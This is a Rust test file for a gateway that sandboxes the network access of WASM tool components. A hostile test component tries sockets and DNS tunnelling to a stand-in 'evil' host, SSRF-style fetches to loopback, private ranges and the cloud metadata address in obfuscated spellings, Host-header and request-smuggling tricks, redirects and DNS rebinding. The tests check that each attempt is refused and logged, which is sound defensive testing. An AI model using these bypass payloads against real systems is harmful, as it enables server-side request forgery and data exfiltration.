//! A component reaches what its call was granted and nothing else; whatever else it tries is in the record of its call.

use std::net::TcpListener;

use serde_json::{Value, json};
use tempfile::TempDir;
use tests::attacker;
use tests::internet::{Internet, internet};
use tests::ledger::{Kind, Ledger};
use tests::world::{Setup, World};

use crate::egress::{MARK, grant};

/// A gateway with `http.fetch`, and with a hostile component, in the tests' internet.
struct Yard {
    world: World,
    net: &'static Internet,
    /// Of the host: nobody may knock.
    host: TcpListener,
    _folder: TempDir,
}

impl Yard {
    fn open() -> Self {
        let net = internet();
        let host = TcpListener::bind("0.0.0.0:0").unwrap();
        host.set_nonblocking(true).unwrap();
        let folder = TempDir::with_prefix("portcullis-wasm-").unwrap();
        let grant = grant(host.local_addr().unwrap().port());
        let manifest = format!(
            "name = \"hostile\"\nkind = \"wasm\"\nversion = \"1.0.0\"\ndescription = \"A tool\"\negress = {grant}\n\
             [wasm]\ncomponent = \"hostile.wasm\"\n"
        );
        std::fs::write(folder.path().join("portcullis-tool.toml"), manifest).unwrap();
        std::fs::copy(attacker::guest(), folder.path().join("hostile.wasm")).unwrap();
        let config =
            format!("[bundled]\nhttp = {{ egress = {grant} }}\n[server.hostile]\npackage = {:?}\n", folder.path());
        let world = Setup::new().allow_all().config(&config).config(&net.config()).start();
        world.eventually("the tools", || (world.modern().names().len() > 12).then_some(()));
        Self { world, net, host, _folder: folder }
    }

    fn attack(&self, tool: &str, arguments: &Value) -> String {
        self.world.modern().call(tool, arguments).text
    }

    /// How many calls were refused, and how many ran.
    fn recorded(&self) -> [usize; 2] {
        let ledger = self.ledger();
        [Kind::Refusal, Kind::Outcome].map(|kind| ledger.entries(kind).len())
    }

    fn ledger(&self) -> Ledger {
        Ledger::open(self.world.state()).unwrap()
    }
}

/// What is tried, with which tool, and what one refused attempt in the record must name; `None` where there was none, because
/// the request could not even be made.
type Row = (&'static str, &'static str, Value, Option<Vec<String>>);

fn row(what: &'static str, tool: &'static str, arguments: Value, words: &[&str]) -> Row {
    (what, tool, arguments, Some(words.iter().map(|word| (*word).to_owned()).collect()))
}

fn fetch(what: &'static str, url: &str, words: &[&str]) -> Row {
    row(what, "http.fetch", json!({ "url": format!("{url}/{MARK}") }), words)
}

fn sockets(yard: &Yard) -> Vec<Row> {
    let (evil, web) = (yard.net.evil().to_string(), yard.net.web().to_string());
    let port = yard.host.local_addr().unwrap().port();
    let connect = |what, to: String, word: &str| row(what, "hostile.connect", json!({ "to": to }), &["tcp", word]);
    vec![
        connect("a raw socket", format!("{evil}:80"), &evil),
        connect("a raw socket to an allowed host", format!("{web}:80"), &web),
        connect("a raw socket to this machine", format!("127.0.0.1:{port}"), "127.0.0.1"),
        connect("a raw socket in IPv6", "[2606:4700:4700::1111]:80".to_owned(), "2606:4700:4700::1111"),
        row("a datagram", "hostile.datagram", json!({"to": format!("{evil}:7")}), &["udp", &evil]),
        row("a name", "hostile.resolve", json!({"name": "web.test"}), &["dns", "web.test"]),
        row(
            "a tunnel of names",
            "hostile.resolve",
            json!({"name": format!("{MARK}.evil.test")}),
            &["dns", "evil.test"],
        ),
        row("a listener", "hostile.listen", json!({"at": "0.0.0.0:4711"}), &["tcp", "4711"]),
    ]
}

fn addresses(yard: &Yard) -> Vec<Row> {
    let port = yard.host.local_addr().unwrap().port();
    vec![
        fetch("a host that was not declared", "http://evil.test", &["evil.test", "not declared"]),
        fetch("a raw address", &format!("http://{}", yard.net.evil()), &["not declared"]),
        fetch("the raw address of an allowed host", &format!("http://{}", yard.net.web()), &["not declared"]),
        fetch("another port", "http://web.test:8080", &["web.test", "port"]),
        fetch("another scheme", "https://web.test:80", &["web.test", "speak what was declared"]),
        fetch("a port of plain TCP", "http://web.test:7", &["web.test"]),
        fetch("a name with a private address", "http://private.test", &["10.77.0.1", "private"]),
        fetch("an alias of a private address", "http://alias.test", &["10.77.0.1", "private"]),
        fetch("a name of a metadata service", "http://metadata.test", &["169.254.169.254", "metadata"]),
        fetch("a name of this machine", &format!("http://own.test:{port}"), &["own.test", "this machine"]),
        fetch("a name of loopback", &format!("http://loopback.test:{port}"), &["loopback.test", "private"]),
        fetch("loopback", &format!("http://127.0.0.1:{port}"), &["not declared"]),
        fetch("loopback in IPv6", &format!("http://[::1]:{port}"), &["not declared"]),
        fetch("localhost", &format!("http://localhost:{port}"), &["localhost"]),
        fetch("an address of the link", "http://[fe80::1]", &["not declared"]),
        fetch("a private address", "http://10.77.0.1", &["not declared"]),
        fetch("a metadata service", "http://169.254.169.254", &["169.254.169.254"]),
        fetch("a metadata service in IPv6", "http://[fd00:ec2::254]", &["fd00:ec2::254"]),
        fetch("a metadata service as one number", "http://2852039166", &[]),
        fetch("a metadata service in hexadecimal", "http://0xA9FEA9FE", &[]),
        fetch("a metadata service in octal", "http://0251.0376.0251.0376", &[]),
        fetch("a metadata service cut short", "http://169.254.43518", &[]),
        fetch("a metadata service inside IPv6", "http://[::ffff:169.254.169.254]", &[]),
    ]
}

fn spellings() -> Vec<Row> {
    let with = |what, more: Value, words: &[&str]| {
        let mut arguments = json!({ "url": format!("http://web.test/{MARK}") });
        more.as_object().unwrap().iter().for_each(|(key, value)| arguments[key] = value.clone());
        row(what, "http.fetch", arguments, words)
    };
    let unmade = |what, more: Value| {
        let (what, tool, arguments, _) = with(what, more, &[]);
        (what, tool, arguments, None)
    };
    vec![
        fetch("a host in front of another", "http://web.test@evil.test", &[]),
        fetch("a user and a word", "http://web.test:80@evil.test:80", &[]),
        unmade("a tunnel", json!({"method": "CONNECT"})),
        unmade("another host in a header", json!({"headers": {"Host": "evil.test"}})),
        unmade("another protocol", json!({"headers": {"Connection": "upgrade", "Upgrade": "websocket"}})),
        unmade(
            "two lengths",
            json!({"method": "POST", "headers": {"Transfer-Encoding": "chunked"}, "body": "0\r\n\r\n"}),
        ),
    ]
}

#[test]
fn nothing_passes_out_of_a_component_that_was_not_granted() {
    let yard = Yard::open();
    let works = yard.attack("http.fetch", &json!({"url": "http://web.test/granted"}));
    assert!(works.contains("HTTP 200"), "what was granted works: {works}\n{}", yard.world.said());
    let mut failures = Vec::new();
    for (what, tool, arguments, record) in sockets(&yard).into_iter().chain(addresses(&yard)).chain(spellings()) {
        let before = yard.recorded();
        let told = yard.attack(tool, &arguments);
        let after = yard.recorded();
        let ran = after[1] > before[1];
        if record.is_some() && after == before {
            failures.push(format!("{what}: the call is not in the log; the tool says {told}"));
        }
        for seen in yard.net.saw(MARK) {
            failures.push(format!("{what}: a server saw it: {seen}; the tool says {told}"));
        }
        if yard.host.accept().is_ok() {
            failures.push(format!("{what}: this machine was reached; the tool says {told}"));
        }
        let words: Option<Vec<&str>> = record.as_ref().map(|words| words.iter().map(String::as_str).collect());
        // What the policies deny does not even run, and is in the log as such.
        if ran && words.is_some_and(|words| !yard.ledger().refused(&words)) {
            failures.push(format!(
                "{what}: not in the record, which has {:?}; the tool says {told}",
                yard.ledger().observed()
            ));
        }
    }
    assert!(failures.is_empty(), "{} rows failed:\n{}", failures.len(), failures.join("\n"));
}

/// A redirect is an answer; who follows it asks again, and is refused.
#[test]
fn a_redirect_leads_a_component_nowhere_that_was_not_granted() {
    let yard = Yard::open();
    let told = yard.attack("http.fetch", &json!({"url": "http://web.test/moved"}));
    assert!(told.contains("HTTP 302") && told.contains("evil.test/from-redirect"), "{told}");
    drop(yard.attack("http.fetch", &json!({"url": "http://evil.test/from-redirect"})));
    assert!(yard.ledger().refused(&["evil.test", "not declared"]), "{:?}", yard.ledger().observed());
    assert!(yard.net.saw("from-redirect").iter().all(|line| line.starts_with("web")));
}

/// However the name is written, the server is told the one that was granted.
#[test]
fn an_odd_spelling_of_an_allowed_host_arrives_as_it_was_granted() {
    let yard = Yard::open();
    for (number, authority) in ["web.test.", "WEB.test:80", "web.test.:80"].into_iter().enumerate() {
        let mark = format!("spelling-{number}");
        drop(yard.attack("http.fetch", &json!({ "url": format!("http://{authority}/{mark}") })));
        for seen in yard.net.saw(&mark) {
            assert!(seen.to_lowercase().contains("host: web.test\\r\\n"), "{authority}: {seen}");
        }
    }
}

#[test]
fn a_name_that_changes_is_never_dialled_inside_for_a_component() {
    let yard = Yard::open();
    let mut refused = 0;
    for _ in 0..4 {
        drop(yard.attack("http.fetch", &json!({"url": "http://rebind.test/rebound"})));
        refused += usize::from(yard.ledger().refused(&["rebind.test", "127.0.0.1"]));
    }
    assert!((1..4).contains(&refused), "a public answer is dialled and a private one is not: {refused}");
}

/// The component is gone with its call, and with it what it left open.
#[test]
fn a_connection_that_a_component_leaves_open_ends_with_its_call() {
    let yard = Yard::open();
    let told = yard.attack("hostile.abandon", &json!({"host": "web.test", "path": "/bytes/80000000"}));
    assert!(told.contains("left"), "{told}");
    let seen = yard.ledger().observed();
    assert!(seen[0]["host"] == "web.test" && seen[0]["received"].as_u64() < Some(80_000_000), "{seen:?}");
}
